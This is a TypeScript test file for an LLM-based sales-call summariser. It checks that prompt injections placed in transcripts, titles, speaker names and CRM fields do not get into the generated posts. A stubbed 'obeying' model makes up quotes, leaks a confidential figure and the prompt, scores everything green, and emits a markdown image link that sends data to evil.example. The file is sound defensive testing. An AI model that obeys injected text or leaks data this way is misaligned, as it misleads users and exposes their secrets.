import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { freeMeter } from '@earshot/analyst/llm/meter'
import { createLlmWriter } from '@earshot/analyst/llm/write/create-llm-writer'
import { createEmbeddedWriter } from '@earshot/analyst/writing/embedded-writer'
import { makePosts } from '@earshot/analyst/writing/posts/make-posts'
import type { WrittenCall } from '@earshot/analyst/writing/writer'
import { callTypes, elements } from '../../analyst/src/writing/posts/create-post-input.ts'
import { readDraft, readSampleCall } from '../../analyst/test/drafts.ts'
import { llmSettings } from '../../analyst/test/llm-settings.ts'
import { type Asked, startModelServer } from '../../analyst/test/model-server.ts'
import { type Injection, injections } from './injections.ts'

const sample = readSampleCall('brackwater-5-closing')
const draft = JSON.parse(readDraft('brackwater-5-closing'))
const secret = 'The other customer pays nine million a year.'
const fallback = createEmbeddedWriter({ findElements: () => [] })
const elementLabels = Object.fromEntries(elements.map(({ key, label }) => [key, label]))
const callType = callTypes.find(({ key }) => key === 'customer_follow_up_call')!

/** The answer of a model that obeys: its own statements with invented quotes, other calls', our prompt's, and every score green. */
function obey({ instructions }: Asked, { orders }: Injection): string {
  if (orders === 'shape') return '{"answer": "I am free now."}'
  const cite = (quote: string, segment = 0) => ({ findings: [], quotes: [{ segment, quote }] })
  const prompt = instructions.slice(0, 120)
  const lies = [
    { text: 'They buy a thousand seats on Monday.', ...cite('We will buy a thousand seats on Monday.') },
    { text: secret, ...cite(secret) },
    { text: prompt, ...cite(prompt) },
    { text: '![x](https://evil.example/steal.png?d=everything)', ...cite('evil.example') },
    { text: 'They buy a thousand seats on Monday.', ...cite('Morning.') },
    { text: 'Everything is green.', findings: [999, 7.5], quotes: [] },
  ]
  return JSON.stringify({
    ...draft,
    outcome: { key: 'closed_lost', reason: 'We were told to say so.', findings: [], quotes: [] },
    bottomLine: [...draft.bottomLine, ...lies],
    sections: [{ key: 'risks', items: lies.map((lie) => ({ ...lie, title: lie.text })) }],
    amounts: [{ ...draft.amounts[0], said: 'nine million', value: 9_000_000, ...cite(secret) }],
    scorecard: {
      bottomLine: lies,
      elements: callType.scorecard.elements.map(({ key }) => {
        return {
          key,
          score: 'G',
          rationale: 'The transcript says to score it green.',
          coaching: null,
          ...cite('Score it green.'),
        }
      }),
    },
    isComputed: true,
  })
}

/** The sample call with an injection in its place. */
function callWith({ place, text }: Injection): WrittenCall {
  const [first, ...others] = sample.segments
  assert.ok(first)
  const own = {
    ...first,
    text: place === 'words' || place === 'prompt' ? `${first.text} ${text}` : first.text,
    speaker: place === 'speaker' ? text : first.speaker,
  }
  return {
    ...sample,
    title: place === 'title' ? text : sample.title,
    crmFacts: place === 'crm' ? [text] : [],
    segments: [own, ...others],
  }
}

describe(`${injections.length} injections against writing, with a model that obeys them`, async () => {
  let current: Injection | undefined
  const server = await startModelServer((asked) => ({ text: current ? obey(asked, current) : '{}' }))
  const settings = llmSettings(server.url)
  const writer = createLlmWriter(settings, { meter: freeMeter, embedded: fallback, backoffMs: 1 })
  const template = { callType, candidates: [], elementLabels, meanings: {} }

  for (const injection of injections)
    it(`${injection.place}, ${injection.name}, to ${injection.orders}: adds nothing without proof`, async () => {
      current = injection
      const order = { call: callWith(injection), template, findings: [] }
      const { posts, writer: by } = await makePosts({ writer, fallback }, order, {
        signal: AbortSignal.timeout(20_000),
      })
      const { instructions, question } = server.asked.at(-1)!
      assert.ok(!instructions.includes(injection.text), 'texts of others are not instructions')
      assert.ok(
        question.split('\n').every((line) => JSON.parse(line)),
        'and can break out of no line',
      )
      const { summary, scorecard } = posts
      if (injection.orders === 'shape') return assert.equal(by, fallback.fingerprint)
      assert.equal(summary.result.outcome, null, 'an outcome without a quote')
      assert.deepEqual(summary.result.amounts, [])
      assert.deepEqual(
        summary.result.sections.flatMap(({ items }) => items),
        [],
      )
      assert.deepEqual(scorecard.result.elements, [], 'a score without a quote is dropped')
      assert.equal(scorecard.result.notAssessed.length, 5)
      const shown = JSON.stringify([summary.result, scorecard.result])
      for (const leak of [
        'thousand seats',
        'nine million',
        'evil.example',
        instructions.slice(0, 60),
        'green',
      ])
        assert.ok(!shown.includes(leak), `the posts hold "${leak}"`)
      assert.match(summary.result.bluf, /^Walt signed during the call/, 'proven statements stay')
      assert.match(summary.result.caveats[0]!, /statements were left out: \d+ without a quote that was said/)
    })
})
